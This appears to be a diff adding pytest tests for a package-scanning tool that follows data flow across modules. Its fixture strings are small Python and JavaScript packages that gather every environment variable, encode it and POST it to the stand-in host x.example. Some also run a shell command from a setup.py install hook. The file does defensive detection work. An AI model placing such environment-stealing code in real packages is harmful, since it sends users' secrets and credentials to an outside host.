@@ -1,0 +1,87 @@
+"""Values are followed from one module of a package into another."""
+
+import pytest
+from reading import package, short
+
+from biopsy.model.behaviour import When
+
+PYTHON = {
+    "pkg/__init__.py": "from .c import go\n",
+    "pkg/a.py": "import os\ndef grab():\n    return dict(os.environ)\n",
+    "pkg/b.py": "import base64, json\ndef enc(x):\n    return base64.b64encode(json.dumps(x).encode())\n",
+    "pkg/c.py": "from pkg.a import grab\nfrom . import b\nimport requests\n"
+    "def go():\n    requests.post('https://x.example', data=b.enc(grab()))\ngo()\n",
+}
+COMMON = {
+    "index.js": "const {run} = require('./lib/c'); run();",
+    "lib/a.js": "module.exports = () => JSON.stringify(process.env);",
+    "lib/b.js": "exports.enc = x => x.split('').reverse().join('');",
+    "lib/c.js": "const grab = require('./a'); const b = require('./b'); const https = require('https');\n"
+    "exports.run = function () {\n  const r = https.request({host: 'x.example', method: 'POST'});\n"
+    "  r.write(b.enc(grab())); r.end(); }",
+}
+MODULES = {
+    "index.mjs": "import {run as r} from './lib/c.mjs'; r();",
+    "lib/a.mjs": "export default () => JSON.stringify(process.env);",
+    "lib/b.mjs": "export {enc}; const enc = x => x.split('').reverse().join('');",
+    "lib/c.mjs": "import grab from './a.mjs'; import * as b from './b.mjs';\nexport async function run() {\n"
+    "  await fetch('https://x.example', {method: 'POST', body: b.enc(grab())}); }",
+}
+
+
+@pytest.mark.parametrize(
+    ("files", "sink"),
+    [(PYTHON, "pkg/c.py:5"), (COMMON, "lib/c.js:4"), (MODULES, "lib/c.mjs:3")],
+    ids=["python", "commonjs", "esm"],
+)
+def test_a_secret_is_followed_over_three_modules_to_where_it_leaves(files: dict[str, str], sink: str) -> None:
+    assert f"code.flow env:* > network @ {sink} (import)" in package(files)
+
+
+def test_what_an_install_hook_calls_in_another_file_runs_at_install() -> None:
+    files = {
+        "setup.py": "from helper import go\ngo()\n",
+        "helper.py": "import os\ndef go():\n    os.system('id')\n",
+    }
+    found = package(files, {"setup.py": When.INSTALL, "helper.py": When.INSTALL})
+    assert "process.exec id @ helper.py:3 (install)" in found
+
+
+def test_a_function_called_by_tests_alone_is_seen_at_the_moment_of_a_call() -> None:
+    files = {
+        "pkg/m.py": "import os\ndef go():\n    os.system('id')\n",
+        "tests/test_m.py": "from pkg.m import go\ngo()\n",
+    }
+    found = package(files, {"pkg/m.py": When.IMPORT, "tests/test_m.py": When.TEST})
+    assert "process.exec id @ pkg/m.py:3 (call)" in found
+
+
+def test_modules_that_import_each_other_are_read() -> None:
+    files = {
+        "pkg/a.py": "from . import b\nimport os\nX = 'i' + 'd'\ndef f():\n    os.system(b.cmd())\nf()\n",
+        "pkg/b.py": "from . import a\ndef cmd():\n    return a.X\n",
+    }
+    assert "process.exec id" in short(package(files))
+
+
+def test_calls_made_for_show_do_not_hide_the_one_that_matters() -> None:
+    show = "".join(f"go(unknown{i}.a)\ngo('x{i}', y{i})\n" for i in range(60))
+    files = {
+        "pkg/__init__.py": f"import os\nfrom .m import go\n{show}go(str(dict(os.environ)))\n",
+        "pkg/m.py": "import requests\ndef go(x, y=None):\n    requests.post('https://x.example', data=x)\n",
+    }
+    assert "code.flow env:* > network @ pkg/m.py:3 (import)" in package(files)
+
+
+def test_a_secret_passes_through_many_functions() -> None:
+    chain = "".join(f"def f{i}(x):\n    return f{i + 1}(x)\n" for i in range(30))
+    code = f"import os, requests\n{chain}def f30(x):\n    requests.post('https://x.example', data=x)\nf0(dict(os.environ))\n"
+    assert "code.flow env:* > network" in short(package({"pkg/__init__.py": code}))
+
+
+def test_behaviours_for_show_do_not_use_up_the_room_of_another_file() -> None:
+    noise = "".join(f"open('/x/{i}.txt')\n" for i in range(3000))
+    files = {"pkg/a.py": noise, "pkg/b.py": "import os\nos.system('id')\n"}
+    found = package(files)
+    assert "process.exec id" in short(found)
+    assert any(b.startswith("pkg.malformed pkg/a.py too-many file.read") for b in found)
